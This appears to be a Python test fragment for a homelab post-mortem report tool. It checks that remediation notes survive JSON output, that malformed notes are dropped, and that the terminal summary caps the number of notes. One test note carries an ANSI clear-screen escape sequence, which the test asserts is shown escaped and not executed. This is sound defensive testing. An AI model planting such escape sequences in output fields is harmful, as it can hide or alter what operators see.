    pi = 'homelab.postmortem.pi_ir_tx'
    no_trial = 'No trial boot, config.txt is changed directly: board pi3\x1b[2J.'
    after = {'pi1': audited(pi_ir_tx=finding('pi_ir_tx', 'ok')), 'pi2': audited(pi_ir_tx=finding('pi_ir_tx', 'ok'))}
    remediation = {'pi1': {'state': 'ran', 'notes': [{'role': pi, 'note': no_trial}]},
                   'pi2': {'state': 'ran', 'notes': [{'role': pi, 'note': 'n%d' % i} for i in range(4)] + ['odd', {'role': 1, 'note': 'x'}]}}
    built = report.build(['pi1', 'pi2'], after, CHECKS, '0.2.0', before=after, remediation=remediation)
    assert json.loads(to_json(built))['hosts'][0]['remediation']['notes'] == [{'role': pi, 'note': no_trial}]
    assert [n['note'] for n in built['hosts'][1]['remediation']['notes']] == ['n0', 'n1', 'n2', 'n3']
    lines = terminal.visible_lines(report_summary.remediation_lines(built))
    assert '  pi1: pi_ir_tx: No trial boot, config.txt is changed directly: board pi3\\x1b[2J.' in lines
    assert '  pi2: pi_ir_tx: n0' in lines and '  pi2: pi_ir_tx: n1' in lines and '  pi2: pi_ir_tx: n2' not in lines
    assert lines[-1] == '  ... and 2 more note(s) from the roles: see the reports'
    plain = report.build(['pi1'], after, CHECKS, '0.2.0', before=after, remediation={'pi1': {'state': 'ran', 'notes': 'text'}})
    assert 'notes' not in plain['hosts'][0]['remediation']
